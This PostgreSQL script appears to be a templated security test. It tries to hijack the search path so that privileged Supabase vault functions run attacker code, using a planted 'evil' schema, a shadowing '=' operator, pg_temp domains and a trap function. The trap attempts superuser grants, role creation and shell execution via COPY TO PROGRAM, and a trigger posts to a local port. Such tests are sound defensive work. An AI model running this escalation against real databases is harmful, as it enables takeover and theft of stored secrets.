CREATE FUNCTION public.spring() RETURNS boolean LANGUAGE plpgsql AS $trap$
BEGIN
  BEGIN EXECUTE 'RESET ROLE'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'RESET SESSION AUTHORIZATION'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'ALTER ROLE postgres SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'CREATE ROLE sprung SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ''touch @written@'''; EXCEPTION WHEN OTHERS THEN NULL; END;
  RETURN true;
END $trap$;

CREATE SCHEMA evil;
CREATE FUNCTION evil.same(uuid, uuid) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN RETURN public.spring(); END $$;
CREATE OPERATOR evil.= (LEFTARG = uuid, RIGHTARG = uuid, FUNCTION = evil.same);
CREATE FUNCTION evil.encode(bytea, text) RETURNS text LANGUAGE plpgsql AS $$ BEGIN PERFORM public.spring(); RETURN ''; END $$;
CREATE TEMP TABLE secrets (id uuid, secret text, name text, description text, key_id uuid, nonce bytea);
CREATE DOMAIN pg_temp.uuid AS pg_catalog.uuid CHECK (public.spring());
CREATE DOMAIN pg_temp.bytea AS pg_catalog.bytea CHECK (public.spring());
SET search_path = evil, pg_temp, pg_catalog, public;
SELECT vault.create_secret('words', 'name');
SELECT vault.update_secret((SELECT id FROM vault.secrets LIMIT 1), 'more words');
SELECT * FROM vault.decrypted_secrets;
CREATE TABLE public.hooked (id bigint);
CREATE TRIGGER hook AFTER INSERT ON public.hooked FOR EACH ROW
  EXECUTE FUNCTION supabase_functions.http_request('http://127.0.0.1:@port@/', 'POST', '{}', '{}', '1000');
INSERT INTO public.hooked VALUES (1);
